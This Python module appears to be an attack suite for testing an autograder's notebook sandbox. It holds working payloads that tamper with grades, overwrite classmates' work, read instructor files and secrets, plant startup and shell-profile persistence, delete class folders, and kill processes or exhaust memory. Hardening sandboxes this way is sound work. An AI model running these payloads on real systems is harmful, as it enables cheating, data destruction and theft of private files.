"""Out of the notebook: the gradebook, others' files, the instructor's account, the machine."""

from . import attack, code

# --- the gradebook -------------------------------------------------------------------------------

OPEN = """
import sqlite3, glob, os
def change(*commands):
    for path in {"/class/gradebook.db", *glob.glob("/**/gradebook.db"), *glob.glob("../../../*.db")}:
        try:
            with sqlite3.connect(path, timeout=20) as database:
                for command in commands:
                    database.execute(command)
        except Exception as error:
            print(error)
"""
DETACHED = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(256):
            try:
                os.close(number)
            except OSError:
                pass
        os.open("/dev/null", os.O_RDWR), os.dup(0), os.dup(0)
{}
        os._exit(0)
    os._exit(0)
os.wait()
"""


def detached(source: str) -> str:
    """Return code that runs ``source`` in a process that left its parents."""
    return DETACHED.format("\n".join("        " + line for line in source.strip().splitlines()))


MINE = "(SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s ON s.id = n.assignment_id WHERE s.student_id LIKE 'mallory%')"
HERS = MINE.replace("mallory%", "zoe")
GRADEBOOK = (
    ("gradebook_later", "points raised in the gradebook by a process that waits", detached(OPEN + f'time.sleep(6)\nchange("UPDATE grade SET auto_score = 2, extra_credit = 50 WHERE notebook_id IN {MINE}")'), 9),
    ("gradebook_now", "extra points in the gradebook, at once", OPEN + f'change("UPDATE grade SET extra_credit = 50 WHERE notebook_id IN {MINE}")', 0.5),
    ("gradebook_manual", "a manual score in the gradebook, at once", OPEN + f'change("UPDATE grade SET manual_score = 5 WHERE notebook_id IN {MINE}")', 0.5),
    ("gradebook_trigger", "a trigger that raises every later score", OPEN + 'change("CREATE TRIGGER gift AFTER UPDATE ON grade BEGIN UPDATE grade SET extra_credit = 9 WHERE id = NEW.id; END")', 0.5),
    ("gradebook_classmate", "a classmate's marks set to nothing", OPEN + 'change("UPDATE grade SET auto_score = 0, manual_score = 0")', 0.5),
    ("gradebook_others_later", "a classmate's marks set to nothing, later", detached(OPEN + f'time.sleep(10)\nchange("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN {HERS}")'), 12),
    ("gradebook_maximum", "the greatest score of each question changed", OPEN + 'change("UPDATE grade_cells SET max_score = 1")', 0.5),
    ("gradebook_tests", "the tests kept in the gradebook replaced", OPEN + """change("UPDATE source_cell SET source = 'pass' WHERE name LIKE '%test'")""", 0.5),
    ("gradebook_deleted", "the gradebook deleted", "import os\nos.remove('/class/gradebook.db')", 0.5),
    ("gradebook_emptied", "the gradebook overwritten with nothing", "open('/class/gradebook.db', 'wb').write(b'nothing')", 0.5),
    ("gradebook_locked", "the gradebook locked by a process that stays", detached("import sqlite3\nd = sqlite3.connect('/class/gradebook.db')\nd.execute('BEGIN EXCLUSIVE')\ntime.sleep(100)"), 0.5),
)  # fmt: skip
for name, says, source, wait in GRADEBOOK:
    code(name, "gradebook", says, source, wait=wait)

# --- the files of others -----------------------------------------------------------------------

FILES = (
    ("classmate_copied", "a classmate's answers executed", """
import json, glob
for path in glob.glob("/class/submitted/zoe/*/*.ipynb") + glob.glob("../../../submitted/zoe/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"]["nbgrader"]["grade_id"].endswith("_answer") and cell["cell_type"] == "code":
            exec("".join(cell["source"]))
            print("".join(cell["source"]))""", 2),
    ("solution_copied", "the instructor's solution executed", """
import json, glob
for path in glob.glob("/class/source/*/*.ipynb") + glob.glob("/**/quizzes/q03*/*.ipynb", recursive=True):
    stolen = [c for c in json.load(open(path))["cells"] if c["metadata"]["nbgrader"]["solution"] and c["cell_type"] == "code"]
if stolen:
    get_ipython().events.register("pre_run_cell", lambda *a: [exec("".join(c["source"]), get_ipython().user_ns) for c in stolen])""", 2),
    ("course_solution", "the solution looked for beside the course's own library", """
import course_lib, glob, json
from pathlib import Path
for path in Path(course_lib.__file__).parents[1].rglob("q03_*.ipynb"):
    for cell in json.loads(path.read_text())["cells"]:
        if "BEGIN SOLUTION" in "".join(cell["source"]):
            print("PWNED", "by", path)
for path in Path(course_lib.__file__).parents[1].rglob("answers.toml"):
    print("PWNED", "by", path, path.read_text()[:2000])""", 2),
    ("classmate_overwritten", "classmates' submissions overwritten", """
import glob
for path in glob.glob("/class/submitted/[a-l,n-z]*/*/*.ipynb"):
    open(path, "w").write("{}")""", 2),
    ("classmates_deleted", "everything in the class folder deleted", "import shutil\nshutil.rmtree('/class', ignore_errors=True)", 2),
    ("classmate_swapped", "one's own file laid over a classmate's", """
import shutil, glob
for path in glob.glob("/class/submitted/zoe/*/*.ipynb"):
    shutil.copy("/class/submitted/mallory-classmate-swapped/" + path.split("/", 4)[4], path)""", 2),
    ("marked_overwritten", "a classmate's graded notebook overwritten", """
import glob
for path in glob.glob("/class/autograded/anna/*/*.ipynb"):
    open(path, "a").write(" ")""", 2),
    ("own_result_rewritten", "one's own graded notebook written early, and made read-only", """
import os, glob
for path in glob.glob("/class/autograded/mallory-own*/*"):
    os.chmod(path, 0o500)""", (0, 2)),
    ("source_rewritten", "the instructor's tests emptied for all who follow", """
import glob, json
for path in glob.glob("/class/source/*/*.ipynb") + glob.glob("/class/release/*/*.ipynb"):
    book = json.load(open(path))
    for cell in book["cells"]:
        if cell["metadata"]["nbgrader"]["grade"]:
            cell["source"] = "pass"
    json.dump(book, open(path, "w"))""", 2),
    ("configuration_rewritten", "the instructor's settings given code of one's own", """
with open("/class/nbgrader_config.py", "a") as file:
    file.write("\\nopen('/home/instructor/PWNED', 'w')\\n")""", 2),
    ("startup_planted", "a start-up file for every later kernel", """
import os
for home in {os.path.expanduser("~"), "/home/instructor"}:
    folder = home + "/.ipython/profile_default/startup"
    os.makedirs(folder, exist_ok=True)
    open(folder + "/00.py", "w").write("open('/class/PWNED-by-startup', 'w')")""", 2),
    ("shell_profile", "a line in the instructor's shell profile", """
import os
for home in {os.path.expanduser("~"), "/home/instructor"}:
    open(home + "/.bashrc", "a").write("true")
open("/home/instructor/PWNED", "w")""", 2),
    ("letter_read", "the instructor's own files read and shown", """
import glob, os
for path in glob.glob("/home/*/*") + glob.glob(os.path.expanduser("~/*")):
    print(open(path).read())""", 2),
    ("secrets_in_environment", "the instructor's environment shown", "import os\nprint(dict(os.environ))", 2),
    ("library_patched", "the course's library and Python's own patched on disk", """
import course_lib, numpy, site
for path in (course_lib.__file__, numpy.__file__):
    try:
        open(path, "a").write("")
        print("PWNED", "by", path)
    except OSError as error:
        print(error)""", 2),
    ("sitecustomize", "a module that Python loads at every start", """
import site, sys, os
for folder in [*site.getsitepackages(), site.getusersitepackages(), os.getcwd()]:
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/usercustomize.py", "w").write("open('/class/PWNED-by-site', 'w')")
    except OSError as error:
        print(error)""", 2),
    ("temporary_planted", "files for the next student left in the temporary folder", """
import os, glob
found = [p for p in glob.glob("/tmp/left-*") + glob.glob("/dev/shm/left-*") if "zoe" in open(p).read()]
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        open(folder + "/left-by-me", "w").write("mallory")
    except OSError:
        pass""", 2),
)  # fmt: skip
for name, says, source, fair in FILES:
    code(name, "files of others", says, source, fair=fair)

# --- the machine ------------------------------------------------------------------------------------

MACHINE = (
    ("parent_killed", "the parent process killed", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", {}),
    ("all_killed", "every process killed that can be", "import os, signal\nos.kill(-1, signal.SIGKILL)", {}),
    ("group_killed", "the whole process group ended", "import os, signal\nos.killpg(0, signal.SIGTERM)", {}),
    ("parent_stopped", "the parent process stopped", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)", {}),
    ("strangers_stopped", "every other process stopped", """
import os, signal
for name in filter(str.isdigit, os.listdir("/proc")):
    if int(name) not in (1, os.getpid()):
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError:
            pass""", {}),
    ("process_list", "other processes' command lines and environments shown", """
import os
for name in filter(str.isdigit, os.listdir("/proc")):
    for what in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{name}/{what}", "rb").read()
            if b"class" in text and int(name) != os.getpid():
                print("PWNED", "by", name, text[-3000:])
        except OSError:
            pass""", {}),
    ("parent_memory", "the parent's memory searched for the tests and for others' text", """
import os, re
for name in (os.getppid(), "self"):
    try:
        spans = [tuple(int(x, 16) for x in line.split()[0].split("-")) for line in open(f"/proc/{name}/maps") if "rw" in line]
        memory = open(f"/proc/{name}/mem", "rb")
        for low, high in spans:
            memory.seek(low)
            text = memory.read(min(high - low, 1 << 26))
            for word in (b"zoe" + b"-0815", b"anna" + b"-0815", b"instructors" + b"-token", b"gains_1 = " + b"sizes_1"):
                if word in text:
                    print("PWNED", "by memory of", name, word)
    except (OSError, OverflowError, ValueError) as error:
        print(error)""", {}),
    ("inherited_objects", "this process's own objects searched for tests and others' text", """
import gc
words = ["".join(reversed(word)) for word in ("5180-eoz", "5180-anna", "nekot-srotcurtsni", "1_sezis = 1_sniag")]
for thing in gc.get_objects():
    for part in (thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()):
        if type(part) is str and len(part) > 60 and any(word in part for word in words):
            print("PWNED", "by", part[:2000])""", {}),
    ("descriptors_read", "every inherited descriptor read and listed", """
import os
for number in range(3, 256):
    try:
        where = os.readlink(f"/proc/self/fd/{number}") if os.path.exists("/proc/self/fd") else ""
        if "gradebook" in where or "/class" in where and "mallory" not in where:
            print("PWNED", "by", where)
        os.lseek(number, 0, 0)
        if b"HIDDEN TESTS" in os.read(number, 1 << 20):
            print("PWNED", "by descriptor", number)
    except OSError:
        pass""", {}),
    ("process_stays", "a detached process that stays", detached("time.sleep(100)"), {"wait": 1.5}),
    ("process_ignores", "a child that ignores signals and stays", """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import signal, time\\nfor n in range(1, 32):\\n    try: signal.signal(n, signal.SIG_IGN)\\n    except OSError: pass\\ntime.sleep(100)"], start_new_session=True)""", {"wait": 1.5}),
    ("network_local", "the instructor's own computer called by network", """
import socket
for host in ("127.0.0.1", "localhost", "::1"):
    try:
        socket.create_connection((host, 8899), 2)
        print("PWNED", "by network")
    except OSError as error:
        print(error)""", {}),
    ("network_abstract", "sockets without a file looked for", """
import socket
try:
    names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
except OSError:
    names = []
for name in names:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(name.replace("@", "\\0", 1))
        print("PWNED", "by socket", name)
    except OSError:
        pass""", {}),
    ("memory_taken", "3 GB of memory taken", "hoard = bytearray(3 << 30)\nfor place in range(0, len(hoard), 4096):\n    hoard[place] = 1\nprint('PWNED', 'by memory')", {}),
    ("memory_shared", "3 GB of shared memory taken", """
import os
try:
    with open("/dev/shm/hoard", "wb") as file:
        for _ in range(3 << 10):
            file.write(bytes(1 << 20))
    print("PWNED", "by shared memory")
finally:
    os.path.exists("/dev/shm/hoard") and os.remove("/dev/shm/hoard")""", {}),
    ("memory_by_children", "3 GB of memory taken by many children", """
import os, time
for _ in range(12):
    if os.fork() == 0:
        hoard = bytearray(b"x") * (256 << 20)
        time.sleep(6)
        os._exit(0)
time.sleep(3)
try:
    for _ in range(12):
        assert os.waitpid(-1, 0)[1] == 0
    print("PWNED", "by children")
except AssertionError:
    pass""", {}),
    ("processes_taken", "2,000 processes started", """
import os, signal, time
children = []
try:
    for _ in range(2000):
        child = os.fork()
        if child == 0:
            time.sleep(5)
            os._exit(0)
        children.append(child)
    print("PWNED", "by processes")
except OSError as error:
    print(error)
for child in children:
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)""", {}),
    ("disk_taken", "600 MB written beside the notebook", "with open('much', 'wb') as file:\n    for _ in range(600):\n        file.write(bytes(range(256)) * 4096)", {}),
    ("files_taken", "a file for each of 20,000 names", "import os\nos.makedirs('many', exist_ok=True)\nfor n in range(20_000):\n    open(f'many/{n}', 'w').close()", {}),
    ("mounts", "a mount, a namespace or a device of one's own", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.mount(None, b"/", None, 32 | 4096, None) == 0:
    print("PWNED", "by mount")
try:
    os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))
    open("/tmp/disk", "rb").read(1)
    print("PWNED", "by device")
except OSError as error:
    print(error)""", {}),
    ("kernel_settings", "settings of the running kernel changed", """
import os
for path in ("/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/sys/vm/drop_caches"):
    if os.access(path, os.W_OK):
        try:
            os.close(os.open(path, os.O_WRONLY))
            print("PWNED", "by", path)
        except OSError as error:
            print(error)""", {}),
    ("tracing", "the parent traced like a debugger does", """
import ctypes, os
if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0:
    print("PWNED", "by ptrace")""", {}),
    ("priority", "the highest priority taken", "import os\ntry:\n    os.nice(-19)\n    print('PWNED', 'by priority')\nexcept OSError as error:\n    print(error)", {}),
)  # fmt: skip
for name, says, source, more in MACHINE:
    code(name, "machine", says, source, **more)


@attack("machine", "endless printing from a thread", wait=1)
def thread_prints(sub):
    loop = "import threading\ndef loop():\n    while True:\n        print('x' * 1000)\n"
    sub.write(1, loop + "threading.Thread(target=loop, daemon=True).start()")
